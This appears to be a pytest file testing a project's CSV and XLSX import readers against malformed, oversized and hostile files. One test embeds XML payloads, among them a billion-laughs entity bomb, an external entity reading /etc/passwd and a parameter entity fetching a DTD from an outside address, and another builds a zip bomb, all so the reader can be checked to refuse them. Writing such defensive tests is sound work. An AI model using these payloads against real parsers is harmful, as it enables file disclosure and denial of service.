"""Bad tables: each is a finding with line, reason and remedy; the rest is read; memory stays bounded."""

from __future__ import annotations

import gzip
import socket
import tracemalloc
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook
from tests.interop.collecting import CollectingSink
from tests.interop.tables_on_disk import codes, files_under, settings

from carewheel.interop.files import FileRefused, Sample
from carewheel.interop.tabular import mapped, opendental, openemr
from carewheel.interop.tabular.workbooks import workbook_rows

HEADER = "expense_id,expense_date,category,amount\n"
GOOD = "1,2025-03-01,rent,1200.50\n2,2025-03-02,pay,900.00\n"


def read(tmp_path: Path, content: str | bytes, name: str = "some.csv") -> CollectingSink:
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    sink = CollectingSink()
    (file,) = files_under(path)
    part = mapped.recognise(file.sample(), settings())
    assert part == "expenses"
    mapped.read([(file, part)], sink, settings())
    return sink


def counts(sink: CollectingSink) -> tuple[int, int, int]:
    (file,) = sink.files
    return file.rows_used, file.rows_refused, file.rows_ignored


def test_a_truncated_last_row_is_refused_with_its_line(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + GOOD + "3,2025-03-0")
    assert counts(sink) == (2, 1, 0)
    (finding,) = sink.findings
    assert (finding.code, finding.line) == ("csv.truncated-row", 4)
    assert finding.remedy


def test_rows_too_short_and_too_long_are_refused_and_the_rest_is_read(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + "1,2025-03-01\n" + GOOD + "4,2025-03-01,rent,1,2\n")
    assert counts(sink) == (2, 2, 0)
    assert [(f.code, f.line) for f in sink.findings] == [("csv.wrong-width", 2), ("csv.wrong-width", 5)]


@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
def test_the_delimiter_comes_from_the_content(tmp_path: Path, sign: str) -> None:
    sink = read(tmp_path, (HEADER + GOOD).replace(",", sign))
    assert counts(sink) == (2, 0, 0)
    assert [row.amount for row in sink.records] == [Decimal("1200.50"), Decimal("900.00")]


def test_a_delimiter_that_changes_after_the_header_is_named(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + GOOD.replace(",", ";"))
    assert counts(sink) == (0, 2, 0)
    assert set(codes(sink)) == {"csv.wrong-delimiter"}


def test_mixed_line_ends_and_line_breaks_in_quotes_are_rows_all_the_same(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + '1,2025-03-01,rent,1\r\n2,2025-03-01,"two\nlines",2\r3,2025-03-01,pay,x\n')
    assert counts(sink) == (2, 1, 0)
    (finding,) = sink.findings
    assert finding.line == 5


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [("utf-16", []), ("utf-16-le", []), ("utf-16-be", []), ("utf-8-sig", []), ("cp1252", ["csv.encoding"])],
)
def test_encodings_are_read_and_a_guess_is_said(tmp_path: Path, encoding: str, expected: list[str]) -> None:
    sink = read(tmp_path, (HEADER + "1,2025-03-01,ménage,5\n").encode(encoding))
    assert sink.records[0].category == "ménage"
    assert codes(sink) == expected


def test_a_row_with_nul_bytes_is_refused(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + GOOD + "3,2025-03-01,re\x00nt,5\n")
    assert counts(sink) == (2, 1, 0)
    assert codes(sink) == ["csv.nul"]


def test_a_header_alone_is_a_note(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER)
    assert counts(sink) == (0, 0, 0)
    assert codes(sink) == ["csv.header-only"]


def test_empty_rows_are_ignored_and_repeated_ones_too(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + ",,,\n" + GOOD + GOOD.splitlines()[0] + "\n\n")
    assert counts(sink) == (2, 0, 2)
    assert dict(sink.files[0].ignored) == {"empty row": 1, "repeated row": 1}


def test_a_key_with_two_contents_is_doubtful_and_both_are_kept_as_versions(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + GOOD + "1,2025-03-01,rent,1300.00\n")
    assert counts(sink) == (3, 0, 0)
    assert [(f.code, f.severity, f.line) for f in sink.findings] == [("csv.duplicate-key", "doubt", 4)]


@pytest.mark.parametrize("day", ["0001-01-01", "2999-12-31", "", "2025-02-30", "03/04/2025", "soon"])
def test_a_row_that_cannot_be_placed_in_time_is_refused(tmp_path: Path, day: str) -> None:
    sink = read(tmp_path, HEADER + f"9,{day},rent,5\n" + GOOD)
    assert counts(sink) == (2, 1, 0)
    (finding,) = sink.findings
    assert finding.line == 2
    assert "expense.expense_date" in finding.why
    assert not day or day not in f"{finding.what}{finding.why}"


@pytest.mark.parametrize("amount", ["12,50", "1.2.3", "12 USD", "1e3", "NaN", "0.12345", "--1", "", "12.3O"])
def test_money_is_never_repaired(tmp_path: Path, amount: str) -> None:
    sink = read(tmp_path, HEADER + f'9,2025-03-01,rent,"{amount}"\n' + GOOD)
    assert counts(sink) == (2, 1, 0)


def test_columns_that_are_missing_or_twice_there_refuse_the_file(tmp_path: Path) -> None:
    twice = HEADER.replace("category", "category,Category")
    sink = read(tmp_path, twice + "1,2025-03-01,a,b,5\n")
    assert codes(sink) == ["csv.duplicate-column"]
    assert sink.records == []
    (tmp_path / "less.csv").write_text("expense_id,category,amount\n1,rent,5\n")
    (file,) = files_under(tmp_path / "less.csv")
    assert mapped.recognise(file.sample(), settings()) == ""


def test_three_hundred_columns_are_no_trouble(tmp_path: Path) -> None:
    more = ",".join(f"extra_{n}" for n in range(296))
    sink = read(tmp_path, f"{HEADER.strip()},{more}\n1,2025-03-01,rent,5{',x' * 296}\n")
    assert counts(sink) == (1, 0, 0)


def test_binary_rubbish_called_csv_is_not_recognised(tmp_path: Path) -> None:
    (tmp_path / "rubbish.csv").write_bytes(bytes(range(256)) * 40)
    (file,) = files_under(tmp_path)
    for reader in (mapped, opendental, openemr):
        assert reader.recognise(file.sample(), settings()) == ""


def test_a_quote_that_is_never_closed_costs_little_and_reading_goes_on(tmp_path: Path) -> None:
    rows = "".join(f"{n},2025-03-01,rent,1.00\n" for n in range(2, 60_000))
    path = tmp_path / "quote.csv.gz"
    with gzip.open(path, "wt") as packed:
        packed.write(HEADER + '1,2025-03-01,"rent,1.00\n' + rows)
    sink = CollectingSink()
    (file,) = files_under(path)

    class Forgetful(list):
        def append(self, record: object) -> None:
            """Records are not kept here: only the reader's own memory is measured."""

    tracemalloc.start()
    with sink.file(file) as taker:
        taker.records = Forgetful()
        from carewheel.interop.tabular.mapped.reading import _named, _read_one

        _read_one(file, _named("expenses", settings()), taker)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    (collected,) = sink.files
    assert collected.rows_used + collected.rows_refused == 59_999
    assert 0 < collected.rows_refused < 8_000
    assert codes(sink) == ["csv.huge-field"]
    assert peak < 50 * 2**20


def test_a_line_without_an_end_refuses_the_file(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + GOOD + "3,2025-03-01," + "x" * 3_000_000)
    assert codes(sink) == ["csv.line-too-long"]
    assert sink.records == []
    assert sink.files[0].rows_used == 0


def test_quotes_that_merge_two_rows_are_seen(tmp_path: Path) -> None:
    sink = read(tmp_path, HEADER + '1,2025-03-01,"rent,5\n2,2025-03-01,"pay",6\n' + "3,2025-03-01,pay,7\n")
    assert counts(sink) == (1, 2, 0)
    assert codes(sink) == ["csv.bad-quotes"]


def test_a_damaged_archive_drops_the_whole_file(tmp_path: Path) -> None:
    body = "".join(f"{n},2025-03-01,rent{n * 7919},1.00\n" for n in range(100_000))
    whole = gzip.compress((HEADER + body).encode())
    sink = read(tmp_path, whole[: len(whole) // 2], "cut.csv.gz")
    assert codes(sink) == ["file.damaged"]
    assert sink.records == []


def book(path: Path, rows: list[list[object]], sheet: str = "Sheet") -> None:
    workbook = Workbook()
    page = workbook.active
    page.title = sheet
    for row in rows:
        page.append(row)
    workbook.create_sheet("Notes").append(["nothing"])
    workbook.save(path)


def test_a_workbook_reads_like_a_csv(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    book(
        path,
        [
            ["expense_id", "expense_date", "category", "amount"],
            [1, date(2025, 3, 1), "rent", 1200.5],
            [2, "2025-03-02", "pay", 900],
            [3, date(2025, 3, 3), "supplies", 0.1 + 0.2],
            [None, None, None, None],
            [4, "03/04/2025", "x", 1],
        ],
    )
    sink = read(tmp_path, path.read_bytes(), "book.xlsx")
    assert [(r.source_id, str(r.expense_date), r.amount) for r in sink.records] == [
        ("1", "2025-03-01", Decimal("1200.5")),
        ("2", "2025-03-02", Decimal("900")),
        ("3", "2025-03-03", Decimal("0.3")),
    ]
    assert [(f.code, f.line) for f in sink.findings] == [("csv.ambiguous-date", 6)]


def test_case_22_a_workbook_that_is_cut_or_a_bomb_is_refused(tmp_path: Path) -> None:
    good = tmp_path / "good.xlsx"
    book(good, [["expense_id", "expense_date", "category", "amount"], [1, "2025-03-01", "rent", 5]])
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.writestr("xl/media/zero", b"\0" * (120 << 20))
    for path in (bomb,):
        (file,) = files_under(path)
        with pytest.raises(FileRefused, match="unpacks to more"):
            mapped.recognise(file.sample(), settings())
    (file,) = files_under(good)
    assert Sample(file, good.read_bytes()[:65536]).is_xlsx


LAUGHS = "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
SHARED = '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
OUTSIDE = (
    f'<!DOCTYPE x [<!ENTITY a "ha">{LAUGHS}]>',
    '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY i "category">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p; <!ENTITY i "x">]>',
)


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml"])  # fmt: skip
@pytest.mark.parametrize("types", OUTSIDE, ids=["laughs", "file", "harmless", "address"])
def test_case_21_a_workbooks_xml_names_nothing_outside_and_nothing_without_end(
    tmp_path: Path, part: str, types: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*words: object) -> None:
        pytest.fail("nothing is fetched")

    monkeypatch.setattr(socket.socket, "connect", never)
    good, evil = tmp_path / "good.xlsx", tmp_path / "evil.xlsx"
    book(good, [["expense_id", "expense_date", "category", "amount"], ["1", "2025-03-01", "rent", 5]])
    with zipfile.ZipFile(good) as source:
        parts = {name: source.read(name).decode() for name in source.namelist()}
    # As Excel writes it: texts stand apart.
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace('t="inlineStr"><is><t>category</t></is>', 't="s"><v>0</v>')
    parts["xl/sharedStrings.xml"] = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&i;</t></si></sst>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace("</Types>", SHARED + "</Types>")
    for name, end in (
        ("xl/styles.xml", "</styleSheet>"),
        ("xl/workbook.xml", "</workbook>"),
        (sheet, "</t>"),
    ):
        assert end in parts[name]
        parts[name] = parts[name].replace(end, "&i;" + end, 1)
    for name in ("xl/styles.xml", "xl/workbook.xml", sheet, "xl/sharedStrings.xml"):
        parts[name] = types + parts[name] if name == part else parts[name].replace("&i;", "category")
    with zipfile.ZipFile(evil, "w", zipfile.ZIP_DEFLATED) as target:
        for name, text in parts.items():
            target.writestr(name, text)
    (file,) = files_under(evil)
    try:
        said = str(list(workbook_rows(file)))
    except FileRefused as refusal:
        assert refusal.finding.code == "xlsx.damaged"  # noqa: PT017
        assert '"category"' not in types
        return
    # What is not understood is left out: nothing of another file, nothing that grew.
    assert "root:" not in said
    assert len(said) < 1_000


def test_a_sheet_is_found_by_its_name_or_the_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    rows = [["expense_id", "expense_date", "category", "amount"], [1, "2025-03-01", "rent", 5]]
    book(path, rows, "Costs")
    body = '[columns]\namount = "amount"\nexpense_date = "expense_date"\n'
    for sheet, expected in (("Costs", []), ("Elsewhere", ["xlsx.no-sheet"])):
        mapping = tmp_path / f"{sheet}.toml"
        mapping.write_text(f'name = "m"\ntable = "expense"\nsheet = "{sheet}"\n{body}')
        given = settings(mapping)
        (file,) = files_under(path)
        sink = CollectingSink()
        mapped.read([(file, mapped.recognise(file.sample(), given))], sink, given)
        assert codes(sink) == expected
        assert len(sink.records) == (0 if expected else 1)
